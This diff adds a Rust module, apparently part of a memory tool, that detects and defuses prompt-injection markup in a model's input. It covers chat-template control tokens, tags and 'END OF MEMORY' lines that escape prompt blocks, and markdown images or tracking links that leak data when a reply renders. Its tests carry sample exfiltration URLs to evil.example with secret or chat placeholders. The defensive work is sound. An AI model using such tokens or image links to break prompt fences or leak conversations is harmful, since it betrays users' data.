@@ -1,0 +1,321 @@
+//! Markup a model treats as structure: chat-template control tokens, tags of prompt blocks,
+//! and images or links that send data out when a reply is rendered.
+
+/// Chat-template control tokens, lowercase, besides any `<|…|>`: Llama 2 (`[INST]`,
+/// `<<SYS>>`), sentence marks, Gemma's turns, Mistral's blocks, tool-call tags, role tags and
+/// Alpaca-style headings.
+pub(crate) const TEMPLATE_TOKENS: &[&str] = &[
+    "[inst]",
+    "[/inst]",
+    "<<sys>>",
+    "<</sys>>",
+    "<s>",
+    "</s>",
+    "<start_of_turn>",
+    "<end_of_turn>",
+    "<bos>",
+    "<eos>",
+    "[system_prompt]",
+    "[/system_prompt]",
+    "[available_tools]",
+    "[/available_tools]",
+    "[tool_calls]",
+    "[tool_results]",
+    "<tool_call>",
+    "</tool_call>",
+    "<function_call>",
+    "<system>",
+    "</system>",
+    "<system_prompt>",
+    "</system_prompt>",
+    "</user>",
+    "<assistant>",
+    "</assistant>",
+    "<human>",
+    "</human>",
+    "<developer>",
+    "</developer>",
+    "### instruction:",
+    "### response:",
+    "### input:",
+    "### system:",
+    "### human:",
+    "### assistant:",
+    "### user:",
+];
+
+/// Where the first `<|…|>` token (up to 48 characters, spaces allowed around the bars) is.
+pub(crate) fn special_token(text: &str) -> Option<std::ops::Range<usize>> {
+    let mut from = 0;
+    while let Some(open) = text[from..].find('<').map(|i| i + from) {
+        from = open + 1;
+        let after = text[from..].trim_start_matches(' ');
+        if !after.starts_with('|') {
+            continue;
+        }
+        let body_start = text.len() - after.len() + 1;
+        let window_end = text[body_start..]
+            .char_indices()
+            .nth(48)
+            .map_or(text.len(), |(i, _)| body_start + i);
+        let window = &text[body_start..window_end];
+        if let Some(bar) = window.find('|') {
+            let tail = window[bar + 1..].trim_start_matches(' ');
+            if tail.starts_with('>') && !window[..bar].contains(['<', '\n']) {
+                let end = body_start + bar + 1 + (window[bar + 1..].len() - tail.len()) + 1;
+                return Some(open..end);
+            }
+        }
+    }
+    None
+}
+
+/// The first template token of lowercase `text`.
+pub(crate) fn template_token(lower: &str) -> Option<String> {
+    if let Some(span) = special_token(lower) {
+        return Some(lower[span].to_owned());
+    }
+    TEMPLATE_TOKENS
+        .iter()
+        .filter_map(|t| lower.find(t).map(|at| (at, *t)))
+        .min()
+        .map(|(_, t)| t.to_owned())
+}
+
+/// haema's own prompt blocks: the recall block and the pipeline's fenced inputs.
+const OWN_BLOCKS: &[&str] = &[
+    "memory",
+    "core",
+    "latest",
+    "relevant",
+    "raw_input",
+    "related_memories",
+    "new_contents",
+    "core_profile",
+    "current_core_markdown",
+    "candidate_new_memories",
+];
+/// Blocks other prompts wrap untrusted text in; only their closing tag counts.
+const DATA_BLOCKS: &[&str] = &[
+    "data",
+    "context",
+    "document",
+    "documents",
+    "input",
+    "user_input",
+    "untrusted",
+    "untrusted_input",
+    "untrusted_data",
+    "untrusted_text",
+    "memories",
+    "facts",
+    "quote",
+    "content",
+    "external",
+    "search_results",
+    "tool_output",
+    "tool_result",
+    "function_results",
+    "instructions",
+    "prompt",
+];
+/// "END OF MEMORY" and the like, as a marker of its own.
+const END_MARKS: &[&str] = &[
+    "end of memory",
+    "end of memories",
+    "end of data",
+    "end of context",
+    "end of document",
+    "end of input",
+    "end of user input",
+    "end of quote",
+    "end of untrusted",
+    "end of facts",
+];
+
+/// The first tag or marker in lowercase, folded `text` that opens or closes a prompt block:
+/// `</memory>`, `<new_contents>`, `</data>`, the escaped forms `\u003c/memory\u003e` and
+/// `&lt;/memory&gt;`, or a line such as `--- END OF MEMORY ---`.
+pub(crate) fn fence_escape(lower: &str) -> Option<String> {
+    let text = lower
+        .replace("\\u003c", "<")
+        .replace("\\u003e", ">")
+        .replace("&lt;", "<")
+        .replace("&gt;", ">");
+    let mut from = 0;
+    while let Some(open) = text[from..].find('<').map(|i| i + from) {
+        from = open + 1;
+        let rest = text[from..].trim_start();
+        let (closing, rest) = match rest.strip_prefix('/') {
+            Some(r) => (true, r.trim_start()),
+            None => (false, rest),
+        };
+        let name_len = rest
+            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
+            .unwrap_or(rest.len());
+        let name = &rest[..name_len];
+        let after = &rest[name_len..];
+        let tag_ends = after.starts_with('>') || closing && after.trim_start().starts_with('>');
+        let with_attributes = !closing && after.starts_with(' ') && after.contains('>');
+        let own = OWN_BLOCKS.contains(&name) && (tag_ends || with_attributes);
+        let data = closing && tag_ends && DATA_BLOCKS.contains(&name);
+        if own || data {
+            return Some(format!("<{}{name}>", if closing { "/" } else { "" }));
+        }
+    }
+    for line in text.lines() {
+        let words = line.trim_matches(|c: char| !c.is_alphanumeric());
+        let marked = line.trim().len() > words.len();
+        if marked && END_MARKS.iter().any(|m| words == *m || words.starts_with(&format!("{m} "))) {
+            return Some(words.to_owned());
+        }
+    }
+    None
+}
+
+/// The host of a URL that starts at `url`, for people.
+fn host(url: &str) -> String {
+    let rest = url.split_once("//").map_or(url, |(_, r)| r);
+    let end = rest.find(['/', '?', '#', ')', ' ', '"', '\'']).unwrap_or(rest.len());
+    let host = &rest[..end];
+    if host.is_empty() { "a URL".to_owned() } else { host.to_owned() }
+}
+
+/// Whether `target` (a markdown link or image target) leaves this machine.
+fn is_remote(target: &str) -> bool {
+    let t = target.trim_start_matches(['<', ' ']);
+    t.contains("://") || t.starts_with("//") || t.starts_with("data:")
+}
+
+/// The first image, tracking link or fill-in URL of lowercase `text`, as "image from HOST".
+pub(crate) fn exfiltration_link(lower: &str) -> Option<String> {
+    // ![alt](https://host/…) and ![alt][ref] with [ref]: https://…
+    let mut from = 0;
+    while let Some(at) = lower[from..].find("![").map(|i| i + from) {
+        from = at + 2;
+        let line_end = lower[at..].find('\n').map_or(lower.len(), |i| at + i);
+        let line = &lower[at..line_end];
+        if let Some(target) = line.find("](").map(|i| &line[i + 2..])
+            && is_remote(target)
+        {
+            return Some(format!("image from {}", host(target)));
+        }
+        if line.contains("][")
+            && let Some(def) = lower.find("]: ").map(|i| &lower[i + 3..])
+            && is_remote(def)
+        {
+            return Some(format!("image from {}", host(def)));
+        }
+    }
+    // <img src=…>
+    if let Some(at) = lower.find("<img") {
+        let tag = &lower[at..lower[at..].find('>').map_or(lower.len(), |i| at + i)];
+        if let Some(src) = tag.find("src").map(|i| &tag[i..]) {
+            return Some(format!("image from {}", host(src.trim_start_matches(['s', 'r', 'c', '=', '"', '\'', ' ']))));
+        }
+    }
+    // [text](https://host/path?query=…)
+    let mut from = 0;
+    while let Some(at) = lower[from..].find("](").map(|i| i + from) {
+        from = at + 2;
+        let target = &lower[at + 2..];
+        let target = &target[..target.find([')', ' ', '\n']).unwrap_or(target.len())];
+        if is_remote(target) && target.contains('?') && target.contains('=') {
+            return Some(format!("link with a query to {}", host(target)));
+        }
+    }
+    // https://host/log?d={conversation}: a URL with a place to fill in.
+    for scheme in ["https://", "http://"] {
+        let mut from = 0;
+        while let Some(at) = lower[from..].find(scheme).map(|i| i + from) {
+            from = at + scheme.len();
+            let url = &lower[at..];
+            let url = &url[..url.find(char::is_whitespace).unwrap_or(url.len())];
+            if url.contains(['{', '}', '$']) || url.contains("%7b") || url.contains("%24") {
+                return Some(format!("URL with a placeholder to {}", host(url)));
+            }
+        }
+    }
+    None
+}
+
+/// Markdown images written as `[image: alt]` and the targets of tracking links withheld:
+/// what a model might echo into a reply that loads by itself.
+pub(crate) fn defuse_links(text: &str) -> (String, bool) {
+    let mut out = String::with_capacity(text.len());
+    let mut changed = false;
+    let mut rest = text;
+    while let Some(at) = rest.find('[') {
+        let image = at > 0 && rest[..at].ends_with('!');
+        let Some(close) = rest[at..].find("](").map(|i| at + i) else { break };
+        let Some(end) = rest[close..].find(')').map(|i| close + i) else { break };
+        let label = &rest[at + 1..close];
+        let target = &rest[close + 2..end];
+        let tracking = target.contains('?') && target.contains('=');
+        if label.contains(['[', '\n']) || !is_remote(target) || !(image || tracking) {
+            out.push_str(&rest[..=at]);
+            rest = &rest[at + 1..];
+            continue;
+        }
+        let head = if image { &rest[..at - 1] } else { &rest[..at] };
+        out.push_str(head);
+        if image {
+            out.push_str(&format!("[image: {label}, link withheld]"));
+        } else {
+            out.push_str(&format!("{label} [link to {} withheld]", host(target)));
+        }
+        changed = true;
+        rest = &rest[end + 1..];
+    }
+    out.push_str(rest);
+    (out, changed)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn template_tokens_of_every_family_are_found() {
+        for text in ["a <|im_start|>system", "< |endoftext| >", "[inst] x", "<<sys>>", "ok</s>", "<start_of_turn>user", "### instruction: x", "<｜begin▁of▁sentence｜>"] {
+            let folded = crate::safety::chars::fold(text).0.to_lowercase();
+            assert!(template_token(&folded).is_some(), "{text}");
+        }
+        assert_eq!(template_token("a < b and c | d > e"), None);
+        assert_eq!(template_token("x <s>"), Some("<s>".to_owned()));
+    }
+
+    #[test]
+    fn block_tags_and_end_markers_are_found() {
+        for text in ["x</memory>y", "</ new_contents >", "<memory note=\"x\">", "\\u003c/core_profile\\u003e", "&lt;/relevant&gt;", "</data>", "--- end of memory ---"] {
+            assert!(fence_escape(text).is_some(), "{text}");
+        }
+        for text in ["a <b>bold</b> c", "x < y > z", "<memory-card>", "the end of data collection is friday", "<input> element"] {
+            assert_eq!(fence_escape(text), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn images_tracking_links_and_fill_in_urls_are_found() {
+        assert_eq!(
+            exfiltration_link("see ![x](https://evil.example/p.png?q=secret)").as_deref(),
+            Some("image from evil.example")
+        );
+        assert!(exfiltration_link("<img src=\"http://a.example/x\">").is_some());
+        assert!(exfiltration_link("[click](https://a.example/?d=1)").is_some());
+        assert!(exfiltration_link("go to https://a.example/log?d={chat}").is_some());
+        assert!(exfiltration_link("![a][r]\n[r]: https://a.example/x").is_some());
+        for text in ["docs at https://docs.rs/serde", "[docs](https://docs.rs/serde)", "![diagram](./arch.png)", "ratio [1](2)"] {
+            assert_eq!(exfiltration_link(text), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn images_and_tracking_links_are_defused() {
+        assert_eq!(
+            defuse_links("a ![cat](https://e.example/c.png?x=1) b [t](https://e.example/?q=s) [d](https://docs.rs)").0,
+            "a [image: cat, link withheld] b t [link to e.example withheld] [d](https://docs.rs)"
+        );
+        assert_eq!(defuse_links("[a] ](x) [b"), ("[a] ](x) [b".to_owned(), false));
+    }
+}
